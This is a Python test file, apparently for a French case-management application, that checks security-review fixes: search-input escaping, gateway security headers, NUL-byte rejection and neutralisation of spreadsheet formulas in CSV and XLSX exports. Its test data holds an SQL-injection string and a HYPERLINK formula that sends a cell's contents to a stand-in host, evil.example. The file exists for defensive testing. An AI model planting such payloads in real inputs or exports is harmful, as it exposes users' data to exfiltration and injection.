"""The fixes of the security review, shown on the fixed code itself (in this process, with real
PostgreSQL): the running stack only shows them once it has been restarted on this code."""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from types import SimpleNamespace

import pytest
import sqlalchemy as sa
from sqlalchemy.ext.asyncio import create_async_engine


@pytest.mark.parametrize("q", ["%", "_", "\\", "'", "\x00", "--", "' OR '1'='1"])
async def test_free_text_without_a_word_is_an_empty_query_not_a_database_error(q: str) -> None:
    from dossier.views import _tsquery

    engine = create_async_engine("postgresql+asyncpg://postgres@127.0.0.1:5432/postgres")
    try:
        async with engine.connect() as conn:
            matched = await conn.scalar(sa.select(sa.func.to_tsvector("simple", "beretta 92")
                                                  .op("@@")(_tsquery(q))))
        assert matched is False
        async with engine.connect() as conn:  # and a real word still finds
            assert await conn.scalar(sa.select(sa.func.to_tsvector("simple", "beretta 92")
                                               .op("@@")(_tsquery("beret")))) is True
    finally:
        await engine.dispose()


@pytest.fixture(scope="module")
async def edge():  # type: ignore[no-untyped-def]
    """The public edge built from this code, with no upstream reached by these requests."""
    if "gateway" in sys.modules and getattr(sys.modules["gateway"], "__file__", None) is None:
        del sys.modules["gateway"]
    from eaps_kit.testing import TestKeys, app_client
    from gateway.app import create_edge_app
    from gateway.config import GatewaySettings

    app = create_edge_app("public", GatewaySettings(rate_limit_enabled=False), token_verifier=TestKeys().verifier())
    async with app_client(app) as client:
        yield client


async def test_edge_api_answers_carry_security_headers(edge) -> None:  # type: ignore[no-untyped-def]
    for path in ("/health/live", "/api/v1/nulle-part", "/internal/dossiers/x"):
        r = await edge.get(path)
        assert r.headers["x-content-type-options"] == "nosniff", (path, r.headers)
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["referrer-policy"] == "no-referrer"
        assert "default-src 'none'" in r.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in r.headers["content-security-policy"]


async def test_the_portals_own_policy_is_kept(edge) -> None:  # type: ignore[no-untyped-def]
    r = await edge.get("/")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
    assert r.headers.get_list("content-security-policy") == [r.headers["content-security-policy"]]  # one, theirs
    assert "script-src 'self'" in r.headers["content-security-policy"]


@pytest.mark.parametrize("query", ["number=EAPS%00", "document_type=P%00C", "q=%00"])
async def test_a_nul_character_in_the_query_is_refused_at_the_edge(edge, query: str) -> None:  # type: ignore[no-untyped-def]
    for path in ("/api/v1/search/dossiers", "/api/v1/documents", "/api/v1/classification/items"):
        r = await edge.get(f"{path}?{query}")
        assert r.status_code == 400 and r.headers["content-type"].startswith("application/problem+json"), r.text
        assert "caractère nul" in r.json()["detail"]


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1;1)", '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "\t=1"]


def test_csv_export_cells_never_start_with_a_formula_character() -> None:
    from dossier.exports import _csv_text

    for value in FORMULAS:
        text = _csv_text(value, "text")
        assert text == "'" + value
    assert _csv_text("Jean Dupont", "text") == "Jean Dupont"
    buf = io.StringIO()
    csv.writer(buf, delimiter=";").writerow([_csv_text(v, "text") for v in FORMULAS])
    assert all(cell[0] == "'" for cell in next(csv.reader(io.StringIO(buf.getvalue()), delimiter=";")))


def test_xlsx_export_writes_would_be_formulas_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from dossier.exports import Column, _XlsxWriter
    from openpyxl import load_workbook

    writer = _XlsxWriter("Dossiers", [Column("Demandeur", "text", lambda r: r.name)])
    writer.append([SimpleNamespace(name=v) for v in FORMULAS])
    path = tmp_path / "export.xlsx"
    writer.save(str(path))
    sheet = next(zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist()
                 if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheet and b"<f " not in sheet
    cells = [row[0] for row in load_workbook(path).active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}
